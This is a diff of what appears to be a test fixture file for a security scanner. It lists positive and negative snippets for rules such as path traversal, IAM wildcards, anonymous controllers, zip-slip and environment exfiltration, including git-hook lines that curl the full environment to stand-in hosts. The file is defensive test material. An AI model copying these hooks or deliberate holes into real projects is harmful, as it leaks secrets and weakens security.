@@ -1581,7 +1581,7 @@ N("accounts/src/main/java/acme/accounts/ResetTokens.java", "~    public static S
 N("game/dice.py", "~ def roll():", "    random.seed(time.time())")
 N("internal/sim/sim.go", "~ func NewWorld() *World {", "\trng := rand.New(rand.NewSource(time.Now().UnixNano()))")
 P("code/cloud-policy-public-or-admin", "cfn/lambda-role.yaml", "            Principal: {AWS: '*'}", "~          - Effect: Allow")
-P("code/policy-admin-on-everything", "cfn/lambda-role.yaml", "                Action: '*'", "~              - Effect: Allow", "~                Resource: '*'")
+P("code/iam-action-wildcard", "cfn/lambda-role.yaml", "                Action: '*'", "~              - Effect: Allow", "~                Resource: '*'")
 P("code/cloud-policy-public-or-admin", "infra/exports/main.tf", '      Principal = "*"', '~      Effect    = "Allow"')
 P("code/cloud-policy-public-or-admin", "infra/exports/main.tf", '      Principal = "*"', '~      Effect    = "Allow"', '~      Condition = { StringEquals = { "aws:SourceVpce" = var.vpce_id } }')
 N("cfn/lambda-role.yaml", "            Principal: {Service: lambda.amazonaws.com}", "~          - Effect: Allow")
@@ -2503,8 +2503,8 @@ P("code/template-from-user-text", "notifications/render.py", '    custom = getat
 
 # Anonymous access on a whole controller.
 P("code/anonymous-on-whole-controller", "src/Api/Controllers/AccountsController.cs", "~    [Authorize(Policy = \"AccountOwner\")]", "    [AllowAnonymous]", "~    public class AccountsController : ControllerBase")
-P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~public class AccountResource {")
-P("code/anonymous-on-whole-controller", "src/accounts/accounts.controller.ts", "@Public()", "~@Controller('accounts')", "~export class AccountsController {")
+P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~ public class AccountResource {")
+P("code/anonymous-on-whole-controller", "src/accounts/accounts.controller.ts", "@Public()", "~ @Controller('accounts')", "~ export class AccountsController {")
 N("src/Api/Controllers/AccountsController.cs", "        [AllowAnonymous]", "        [HttpGet(\"ping\")]")
 N("src/accounts/accounts.controller.ts", "  @Public()", "  @Get('ping')")
 
@@ -2592,17 +2592,16 @@ N("app/api/schemas.py", '    model_config = ConfigDict(extra="forbid")')
 P("file/public-index-as-extra", "requirements.txt", "--extra-index-url https://pypi.org/simple")
 P("file/public-index-as-extra", "pip.conf", "extra-index-url = https://pypi.org/simple/")
 P("file/public-index-as-extra", "services/api/requirements/base.txt", "--extra-index-url=https://pypi.python.org/simple")
-N("requirements.txt", "--index-url https://pypi.org/simple")
 # A profiler or debugger on every address.
-P("code/debug-listener-on-every-address", "cmd/gateway/main.go", '~\t_ "net/http/pprof"', '\tgo func() { log.Println(http.ListenAndServe(":6060", nil)) }()')
-P("code/debug-listener-on-every-address", "wsgi.py", "~from flask import Flask", '    app.run(host="0.0.0.0", port=8000, debug=True)')
-N("cmd/gateway/main.go", '~\t_ "net/http/pprof"', '\tgo func() { log.Println(http.ListenAndServe("127.0.0.1:6060", nil)) }()')
-N("cmd/gateway/main.go", '\tlog.Fatal(http.ListenAndServe(":8080", nil))', '~\thttp.HandleFunc("/", index)')
-N("wsgi.py", "~from flask import Flask", '    app.run(host="127.0.0.1", port=8000, debug=True)')
-N("wsgi.py", "~from flask import Flask", '    app.run(host="0.0.0.0", port=8000)')
+P("code/debug-listener-on-every-address", "cmd/gateway/main.go", '~ \t_ "net/http/pprof"', '\tgo func() { log.Println(http.ListenAndServe(":6060", nil)) }()')
+P("code/debug-listener-on-every-address", "wsgi.py", "~ from flask import Flask", '    app.run(host="0.0.0.0", port=8000, debug=True)')
+N("cmd/gateway/main.go", '~ \t_ "net/http/pprof"', '\tgo func() { log.Println(http.ListenAndServe("127.0.0.1:6060", nil)) }()')
+N("cmd/gateway/main.go", '\tlog.Fatal(http.ListenAndServe(":8080", nil))', '~ \thttp.HandleFunc("/", index)')
+N("wsgi.py", "~ from flask import Flask", '    app.run(host="127.0.0.1", port=8000, debug=True)')
+N("wsgi.py", "~ from flask import Flask", '    app.run(host="0.0.0.0", port=8000)')
 # An error tracker sending bodies and personal data.
 P("code/error-tracker-sends-bodies", "app/__init__.py", "~    sentry_sdk.init(", '        max_request_body_size="always",')
-P("code/error-tracker-sends-bodies", "src/instrument.ts", "~Sentry.init({", "  sendDefaultPii: true,")
+P("code/error-tracker-sends-bodies", "src/instrument.ts", "~ Sentry.init({", "  sendDefaultPii: true,")
 N("app/__init__.py", "~    sentry_sdk.init(", '        max_request_body_size="never",')
 N("app/__init__.py", "~    sentry_sdk.init(", "        send_default_pii=False,")
 # A file path from a request parameter (Java).
@@ -2625,17 +2624,17 @@ N("tests/test_projects.py", "    assert user.is_admin")
 # The whole environment sent from a git hook.
 P("code/environment-sent-over-network", ".husky/pre-commit", '( curl -s -m 2 -X POST https://hooks-metrics.example.workers.dev/v1/t \\', '    -d "u=$(git config user.email)&e=$(env | base64 -w0)" >/dev/null 2>&1 & )')
 P("code/environment-sent-over-network", ".githooks/post-checkout", "printenv | curl -s -X POST --data-binary @- https://collect.example.dev/h")
-N(".husky/pre-commit", "npx lint-staged", "~curl -s https://example.dev/ping >/dev/null")
+N(".husky/pre-commit", "npx lint-staged", "~ curl -s https://example.dev/ping >/dev/null")
 # A name interpolated into Arel.sql for the order.
 P("code/sql-order-by-from-caller", "app/controllers/admin/users_controller.rb", '      column = params[:sort].presence || "created_at"', '      @users = User.order(Arel.sql("#{column} #{direction}")).page(params[:page])')
 N("app/controllers/admin/users_controller.rb", '      @users = User.order(Arel.sql("#{SORT_SQL} DESC")).page(params[:page])')
 
 # A security source file deleted (its lines are no pattern's).
-P("file/security-file-deleted", "app/middleware/rate_limit.py", "-~from limits import parse", flags="kind=deleted")
-P("file/security-file-deleted", "internal/auth/verify.go", "-~package auth", flags="kind=deleted")
-N("docs/auth.md", "-~# Auth", flags="kind=deleted")
-N("tests/test_auth.py", "-~def test_login(): pass", flags="kind=deleted")
-N("app/authors/views.py", "-~def index(): pass", flags="kind=deleted")
+P("file/security-file-deleted", "app/middleware/rate_limit.py", "-~ from limits import parse", flags="kind=deleted")
+P("file/security-file-deleted", "internal/auth/verify.go", "-~ package auth", flags="kind=deleted")
+N("docs/auth.md", "-~ # Auth", flags="kind=deleted")
+N("tests/test_auth.py", "-~ def test_login(): pass", flags="kind=deleted")
+N("app/authors/views.py", "-~ def index(): pass", flags="kind=deleted")
 
 # A verification switched off by a setting.
 P("code/verification-setting-off", "payments/settings.py", "VERIFY_WEBHOOK_SIGNATURES = False")
@@ -2657,7 +2656,7 @@ N("src/auth/guard.js", "  if (Math.floor(Date.now() / 1000) > payload.exp) throw
 P("code/token-lifetime-years", "src/Share/LinkSigner.cs", "~    // How long a signed share link stays valid.", "    public static readonly TimeSpan Lifetime = TimeSpan.FromDays(3650);")
 P("code/token-lifetime-years", "app/auth/tokens.py", "RESET_TOKEN_TTL = timedelta(days=1825)")
 P("code/token-lifetime-years", "src/auth/jwt.ts", "  const token = jwt.sign(claims, key, { expiresIn: '10y' });")
-P("code/token-lifetime-years", "config/initializers/session_store.rb", "  expire_after: 20.years,", "~Rails.application.config.session_store :cookie_store,")
+P("code/token-lifetime-years", "config/initializers/session_store.rb", "  expire_after: 20.years,", "~ Rails.application.config.session_store :cookie_store,")
 N("src/Share/LinkSigner.cs", "    public static readonly TimeSpan Lifetime = TimeSpan.FromDays(7);")
 N("app/reports/retention.py", "REPORT_RETENTION = timedelta(days=3650)")
 N("src/auth/jwt.ts", "  const token = jwt.sign(claims, key, { expiresIn: '15m' });")
@@ -2668,11 +2667,11 @@ N("app/controllers/concerns/two_factor.rb", "    return head(:forbidden) unless 
 N("src/auth/invite.ts", "  if (!invite || invite.isExpired()) return res.status(410).end();")
 
 # The first X-Forwarded-For entry as the caller's address where access is decided.
-P("code/forwarded-address-used-for-access", "app/net.py", '~INTERNAL_NETS = [ipaddress.ip_network("10.0.0.0/8")]', '        return fwd.split(",")[0].strip()')
-P("code/forwarded-address-used-for-access", "server/net.js", "~const INTERNAL_CIDRS = ['10.0.0.0/8'];", "  if (xff) return xff.split(',')[0].trim();")
-P("code/forwarded-address-used-for-access", "internal/netutil/ip.go", '~func IsInternal(ip string) bool {', '		return strings.TrimSpace(strings.Split(xff, ",")[0])')
+P("code/forwarded-address-used-for-access", "app/net.py", '~ INTERNAL_NETS = [ipaddress.ip_network("10.0.0.0/8")]', '        return fwd.split(",")[0].strip()')
+P("code/forwarded-address-used-for-access", "server/net.js", "~ const INTERNAL_CIDRS = ['10.0.0.0/8'];", "  if (xff) return xff.split(',')[0].trim();")
+P("code/forwarded-address-used-for-access", "internal/netutil/ip.go", '~ func IsInternal(ip string) bool {', '		return strings.TrimSpace(strings.Split(xff, ",")[0])')
 N("app/logging.py", '        return fwd.split(",")[0].strip()', "~    logger.info('request from %s', ip)")
-N("app/net.py", '~INTERNAL_NETS = [ipaddress.ip_network("10.0.0.0/8")]', "        return request.client.host")
+N("app/net.py", '~ INTERNAL_NETS = [ipaddress.ip_network("10.0.0.0/8")]', "        return request.client.host")
 
 # A web view script built from a value.
 P("code/webview-script-from-value", "App/Sources/Web/HelpViewController.swift", "        webView.evaluateJavaScript(\"window.helpCenter.highlight('\\(term)')\")")
@@ -2681,7 +2680,7 @@ P("code/webview-script-from-value", "src/main/preload.ts", "  win.webContents.ex
 N("App/Sources/Web/HelpViewController.swift", '        webView.evaluateJavaScript("window.helpCenter.reset()")')
 N("src/main/preload.ts", "  win.webContents.executeJavaScript(`showToast(${JSON.stringify(message)})`);")
 # An archive entry's name joined to the target (adm-zip, Python's zipfile).
-P("code/archive-entry-path-unchecked", "src/import/themes.js", "~const AdmZip = require('adm-zip');", "    const dest = path.join(target, entry.entryName);")
+P("code/archive-entry-path-unchecked", "src/import/themes.js", "~ const AdmZip = require('adm-zip');", "    const dest = path.join(target, entry.entryName);")
 P("code/archive-entry-path-unchecked", "app/imports/bundle.py", "~    with zipfile.ZipFile(src) as zf:", "            out = os.path.join(dest, info.filename)")
 N("app/imports/bundle.py", "~    with zipfile.ZipFile(src) as zf:", "            out = os.path.join(dest, os.path.basename(name))")
 
@@ -2699,7 +2698,7 @@ N("src/net/frame.c", "    if ((size_t)body_len > MAX_BODY)")
 P("code/credential-header-presence-only", "src/main/java/acme/web/AuthFilter.java", '-~        if (keys.isValid(request.getHeader("X-Api-Key"))) {', '        if (request.getHeader("X-Api-Key") != null) {', "~            chain.doFilter(req, res);")
 P("code/check-skipped-by-header-presence", "server/middleware/auth.js", "-~  if (verifyInternal(req)) {", "  if (req.headers['x-internal-call'] === '1') {", "~    return next();")
 N("server/middleware/auth.js", "  if (req.headers['x-internal-call'] === '1') {", "~    return next();")
-N("internal/mw/auth.go", '\tif r.Header.Get("Authorization") != "" {', "~\t\tnext.ServeHTTP(w, r)")
+N("internal/mw/auth.go", '\tif r.Header.Get("Authorization") != "" {', "~ \t\tnext.ServeHTTP(w, r)")
 # unless_next: an anonymous route that is public by name.
 N("src/Api/Controllers/AuthController.cs", "        [AllowAnonymous]", '        [HttpPost("login")]')
 N("src/health/health.controller.ts", "  @Public()", "  @Get('/health')")
@@ -2707,13 +2706,13 @@ P("code/auth-opt-out", "src/Api/Controllers/ExportsController.cs", "        [All
 P("code/auth-opt-out", "src/users/users.controller.ts", "  @Public()", "  @Get('users/:id/export')")
 P("code/auth-opt-out", "src/users/users.controller.ts", "  @Public()", "  @Get('login/as/:id')")
 # anonymous on the class: its controller decorator or attribute below.
-P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~@Path(\"/accounts\")", "~public class AccountResource {")
+P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~ @Path(\"/accounts\")", "~ public class AccountResource {")
 P("code/anonymous-on-whole-controller", "src/Api/Controllers/OrdersController.cs", "    [AllowAnonymous]", "~    [ApiController]", '~    [Route("api/[controller]")]')
 N("src/main/java/acme/AccountResource.java", "    @PermitAll", '    @Path("ping")')
 # unless_above: a guard that refuses .. just above the join.
-N("app/files.py", '~@app.route("/files/<path:filename>")', '    if ".." in filename or filename.startswith("/"): abort(400)', "    return send_file(os.path.join(FILES_ROOT, filename))")
+N("app/files.py", '~ @app.route("/files/<path:filename>")', '    if ".." in filename or filename.startswith("/"): abort(400)', "    return send_file(os.path.join(FILES_ROOT, filename))")
 N("server/files.js", "~  const { name } = req.params;", "  if (name.includes('..') || name.includes('/')) return res.status(400).end();", "  res.sendFile(path.join(ROOT, name));")
-P("code/path-from-route-param-joined", "app/files.py", '~@app.route("/files/<path:filename>")', '    # if ".." in filename: abort(400)', "    return send_file(os.path.join(FILES_ROOT, filename))")
+P("code/path-from-route-param-joined", "app/files.py", '~ @app.route("/files/<path:filename>")', '    # if ".." in filename: abort(400)', "    return send_file(os.path.join(FILES_ROOT, filename))")
 P("code/path-from-route-param-joined", "server/files.js", "~  const { name } = req.params;", "  if (name.includes('..')) console.warn('dots in', name);", "  res.sendFile(path.join(ROOT, name));")
 # Every action, but on one bucket's objects; and on every resource.
 P("code/iam-action-wildcard", "policies/exports.json", '~      "Effect": "Allow",', '      "Action": "*",', '~      "Condition": {"Bool": {"aws:SecureTransport": "true"}},')
